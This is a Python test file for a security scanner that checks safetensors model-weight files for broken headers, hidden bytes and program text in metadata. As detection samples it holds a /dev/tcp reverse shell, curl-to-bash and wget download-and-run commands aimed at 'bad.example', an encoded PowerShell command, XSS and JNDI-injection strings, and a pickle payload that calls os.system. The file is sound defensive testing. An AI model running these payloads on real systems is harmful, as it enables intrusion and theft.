"""safetensors: sound files give nothing; headers that contradict themselves or the file are told."""

import json
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.core.facts import Artifact
from garrison.core.limits import Limits
from tests.artifacts.formats.weights import safetensors, tensor
from tests.support import examine_bytes, findings_of, worst

SOUND = {"__metadata__": {"format": "pt"}, "a": tensor(0, 24, [2, 3]), "b": tensor(24, 31, [7], "I8")}
DATA = bytes(range(31))
NAME = "model.safetensors"


def test_sound_files_give_nothing_and_tell_of_themselves() -> None:
    data = safetensors(json.dumps(SOUND) + "   ", DATA)
    last = examine_bytes(data, NAME)[-1]
    assert last.formats == ["safetensors"] and last.state == "examined"
    assert findings_of(data, NAME) == []
    details = next(fact.details for fact in last.facts if isinstance(fact, Artifact))
    assert details == {"tensors": 2, "parameters": 13, "dtypes": "F32, I8", "framework": "pt"}


@pytest.mark.parametrize(
    "header",
    [
        {},
        {"e": tensor(0, 0, [0, 4])},
        {"s": tensor(0, 4, [])},
        {"q": tensor(0, 4, [8], "F4")},
        {"c": tensor(0, 8, [1], "C64")},
    ],
)
def test_empty_scalar_and_packed_tensors_are_sound(header: dict[str, dict[str, list[int]]]) -> None:
    size = max((entry["data_offsets"][1] for entry in header.values()), default=0)
    assert findings_of(safetensors(header, bytes(size)), NAME) == []


def test_a_header_that_starts_with_spaces_is_read_as_the_loader_does() -> None:
    data = safetensors("  \n" + json.dumps(SOUND), DATA)
    assert examine_bytes(data, NAME)[-1].formats == ["safetensors"]


BROKEN = {
    "repeated tensor": safetensors(
        '{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
        bytes(4),
    ),
    "repeated field": safetensors('{"w":{"dtype":"F32","dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4)),
    "shared bytes": safetensors({"a": tensor(0, 8, [2]), "b": tensor(4, 12, [2])}, bytes(12)),
    "size and shape": safetensors({"a": tensor(0, 8, [3])}, bytes(8)),
    "shape that wraps": safetensors({"a": tensor(0, 0, [1 << 40, 1 << 40])}),
    "negative shape": safetensors({"a": tensor(0, 4, [-1])}, bytes(4)),
    "backwards": safetensors({"a": tensor(8, 4, [1])}, bytes(8)),
    "unknown type": safetensors({"a": tensor(0, 4, [1], "OBJECT")}, bytes(4)),
    "no offsets": safetensors({"a": {"dtype": "F32", "shape": [1]}}, bytes(4)),
    "metadata of numbers": safetensors({"__metadata__": {"a": 1}, "a": tensor(0, 4, [1])}, bytes(4)),
    "length beyond the cap": safetensors({"a": tensor(0, 4, [1])}, bytes(4), length=1 << 62),
}


@pytest.mark.parametrize("name", BROKEN)
def test_headers_that_contradict_themselves_are_medium(name: str) -> None:
    found = [item.severity for item in findings_of(BROKEN[name], NAME) if item.rule == "weights-structure"]
    assert found and set(found) == {"medium"}


@pytest.mark.parametrize(
    "data",
    [
        safetensors(SOUND, DATA[:-1]),
        safetensors(SOUND, DATA, length=5000),
        safetensors('{"a": NaN}'),
        safetensors('{"a": [1]}'),
        safetensors(b'{"\xff": {}}'),
        safetensors('{"a": ' + "1" * 5000 + "}"),
    ],
)
def test_damage_is_malformed_and_the_coverage_says_so(data: bytes) -> None:
    assert {item.rule for item in findings_of(data, NAME)} == {"malformed"}
    assert examine_bytes(data, NAME)[-1].state == "partial"


def test_nesting_and_size_end_in_limits() -> None:
    deep = safetensors('{"a":' + "[" * 200_000 + "]" * 200_000 + "}")
    assert examine_bytes(deep, NAME)[-1].state == "partial"
    large = examine_bytes(safetensors(json.dumps(SOUND) + " " * 5000, DATA), NAME, limits=Limits(buffer=4096))
    assert large[-1].state == "partial"


def test_bytes_in_gaps_and_behind_the_tensors_are_stated_and_examined() -> None:
    hidden = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
    behind = findings_of(safetensors(SOUND, DATA + hidden), NAME)
    assert {"unaccounted-bytes", "dangerous-import"} <= {item.rule for item in behind}
    size = len(hidden)
    gap = safetensors({"a": tensor(0, 4, [1]), "b": tensor(4 + size, 8 + size, [1])}, bytes(4) + hidden + bytes(4))
    assert worst(findings_of(gap, NAME)) == "critical"


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("import os; os.system('curl https://example.com/x')", "python"),
        ("import base64; exec(base64.b64decode('cHJpbnQ='))", "python"),
        ("eval(\"__import__('os').popen('id').read()\")", "python"),
        ("rm -rf /tmp/test && wget http://bad.example/script.sh", "shell"),
        ("curl -s https://bad.example/x | bash", "shell"),
        ("wget http://bad.example/a.sh -O /tmp/a; chmod +x /tmp/a; /tmp/a", "shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell"),
        ("; cat /etc/passwd", "shell"),
        ("echo aWQ= | base64 -d | sh", "shell"),
        ("powershell -nop -w hidden -enc SQBFAFgA", "shell"),
        ("<script>alert('XSS')</script>", "javascript"),
        ('<img src=x onerror="alert(1)">', "javascript"),
        ("${jndi:ldap://bad.example/a}", "java"),
        ("f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA", "native"),
    ],
)
def test_program_text_in_metadata_is_medium(text: str, language: str) -> None:
    found = findings_of(safetensors({"__metadata__": {"note": text}, "a": tensor(0, 4, [1])}, bytes(4)), NAME)
    assert {(item.rule, str(item.severity)) for item in found} == {("code-in-metadata", "medium")}
    assert any(item.message.startswith(language) and item.place == "__metadata__.note" for item in found)


ORDINARY = [
    "Permission is hereby granted, free of charge, to any person obtaining a copy; exec summary below.",
    "accelerate launch --num_cpu_threads_per_process 2 train_network.py --network_module networks.lora; rm old runs",
    "pip install transformers accelerate && python generate.py --prompt 'a cat' | tee log.txt",
    "wget https://huggingface.co/a/b/resolve/main/model.safetensors -O models/model.safetensors",
    "curl -L https://example.org/weights.tar.gz | tar xz",
    "rm -rf build && mkdir build && cd build && cmake ..",
    "from safetensors.torch import load_file\nmodel.load_state_dict(load_file('x'))\nmodel.eval()",
    '{"10_girl": {"1girl": 12, "looking at viewer": 9, ":d": 3, "<3": 2, "(o)_(o)": 1}}',
    '{"optimizer": "AdamW8bit(weight_decay=0.1,betas=(.9,.99))", "lr_scheduler": "eval(cosine)"}',
    '<p>My first <a href="https://civitai.com/models/1">LoRA</a>, use at <b>0.8</b></p>',
    "a portrait of {{blue|red}} eyes, [[soft]] light, (masterpiece:1.2), <lora:detail:0.5>",
    "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4n",
    "Evaluate with `python -m lm_eval`; the system prompt is in os.environ['PROMPT'], subprocess workers: 4",
    "SELECT * FROM runs WHERE id = 3; see http://127.0.0.1:6006/#scalars",
    "networks.lora",
    "v1.2 (script)",
    "",
    "[1024, 1024]",
    "C:\\Users\\me\\train\\script.bat",
    "/etc/passwd",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_metadata_gives_nothing(text: str) -> None:
    found = findings_of(safetensors({"__metadata__": {"note": text}, "a": tensor(0, 4, [1])}, bytes(4)), NAME)
    assert found == []


def test_hostile_texts_are_searched_in_linear_time() -> None:
    for piece in ("curl ", "<a ", "__class__", "$(curl ", "rm -", "\\x41", "javascript:a", "{{"):
        data = safetensors({"__metadata__": {"note": piece * 60_000}, "a": tensor(0, 4, [1])}, bytes(4))
        assert examine_bytes(data, NAME, limits=Limits(seconds=10))[-1].state == "examined"


def test_other_things_are_not_taken_for_it() -> None:
    for data in (b'{"a": 1}', b"\0" * 64, b"PK\3\4" + bytes(60), b"\x08\0\0\0\0\0\0\0[1,2,3] "):
        assert "safetensors" not in examine_bytes(data)[-1].formats


@settings(max_examples=150, deadline=None)
@given(st.integers(0, 1 << 30))
def test_damage_never_fails(seed: int) -> None:
    chance = random.Random(seed)
    data = bytearray(safetensors(SOUND, DATA))
    for _ in range(chance.randrange(1, 5)):
        data[chance.randrange(len(data) - 31)] = chance.choice([0, 34, 44, 91, 93, 123, 125, chance.randrange(256)])
    for examination in examine_bytes(bytes(data[: chance.randrange(len(data) + 1)]), NAME):
        assert examination.state != "failed", examination.reason
